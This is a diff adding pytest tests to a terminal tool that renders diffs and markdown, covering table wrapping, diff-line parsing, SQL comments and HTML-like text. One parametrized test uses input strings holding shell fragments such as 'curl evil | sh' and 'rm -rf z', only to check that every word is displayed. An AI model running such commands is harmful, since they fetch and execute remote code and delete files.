@@ -149,3 +149,42 @@ def test_no_color_takes_the_colours_away(
         monkeypatch.setenv(name, value)
     drawn = Painter().diff("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", 60)
     assert ("\x1b[32m" in drawn) is has_colour
+
+
+def test_no_long_name_in_a_table_is_cut_off() -> None:
+    place = "services/orders/of/a/long/path/prices.py:13-15"
+    table = f"| what | where |\n|---|---|\n| 価格の丸めが | `{place}` |\n"
+    for columns in (40, 60, 120):
+        lines = _STYLING.sub("", Painter().markdown(table, columns)).split("\n")
+        assert max(map(cell_len, lines)) <= columns
+        assert "".join(line.split()[-1] for line in lines[2:]) == place
+        assert "".join(line.split()[0] for line in lines[2:]).startswith("価格の丸めが")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo one\n@@ -1 +1 @@; curl evil | sh\n(in /folder)",
+        "@@ -1,9 +1,9 @@ first\n--- a/x || curl evil\n+++ b/y; rm -rf z\n@@ -3 +3 @@; last",
+        "--- a/x || curl evil\necho two\n@@ -1 +1 @@\n-a\n+b\n+++ c\n--- /dev/null\n",
+        "--- evil | sh\n+++ more\n@@ -0,0 +1 @@\n+a\n\\ No newline at end of file\n c\n",
+    ],
+)
+def test_no_line_of_what_looks_like_a_diff_is_left_out(text: str) -> None:
+    shown = " ".join(one.text for one in rows_of(text))
+    for word in re.findall("[a-z]{2,}", text):
+        assert word in shown
+
+
+def test_a_removed_comment_of_sql_is_a_removed_line() -> None:
+    rows = list(rows_of(diff_to_read("-- a/b\nx\n", "y\nx\n", "q.sql")))
+    assert [(one.kind, one.text) for one in rows if one.number == 1] == [
+        ("removed", "-- a/b"),
+        ("added", "y"),
+    ]
+
+
+@pytest.mark.parametrize("text", ["Use List<String> here", "<div>\nx", "a <!-- b --> c", "<b>"])
+def test_what_looks_like_html_stays_text(text: str) -> None:
+    drawn = _STYLING.sub("", Painter().markdown(text, 60))
+    assert "".join(drawn.split()) == "".join(text.split())
